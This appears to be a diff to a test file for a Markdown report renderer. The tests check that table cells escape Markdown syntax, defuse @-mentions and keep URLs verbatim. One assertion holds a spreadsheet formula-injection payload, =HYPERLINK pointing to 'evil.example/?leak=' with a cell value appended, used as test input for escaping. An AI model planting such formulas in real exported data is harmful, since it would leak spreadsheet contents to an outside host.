@@ -257,7 +257,20 @@ describe('renderMarkdown', () => {
     expect(output).toContain(
       '| \\`code\\` \\*bold\\* \\_em\\_ \\~\\~strike\\~\\~ \\\\\\* | critical |',
     );
-    expect(output).toContain('=HYPERLINK("http://evil.example/?leak="&amp;A1,"x")');
+    // After `"` the URL is no autolink GitHub is sure of, yet cmark-gfm would link it: kept from
+    // linking, so that the escapes in it stay escapes.
+    expect(output).toContain('=HYPERLINK("http\\://evil.example/?leak="&amp;A1,"x")');
+  });
+
+  it('leaves a URL in a reason verbatim and defuses an @-mention in it', () => {
+    const report = twoSourceReport();
+    const reason =
+      'Pre-job script failed: @echo off; cc @acme/security-team, see https://kb.example/a_b?c=1';
+    report.jobs = [jobReport({ jobName: 'Nightly @ops', source: 'hq', reasons: [reason] })];
+    const output = renderMarkdown(report);
+    expect(output).toContain(
+      '| Nightly \\@ops | hq | ok | Success | 1h ago | 1 | 100.0% | Pre-job script failed: \\@echo off; cc \\@acme/security-team, see https://kb.example/a_b?c=1 |',
+    );
   });
 
   it('shows URLs in job names, reasons and server names as they are, in intact cells', () => {
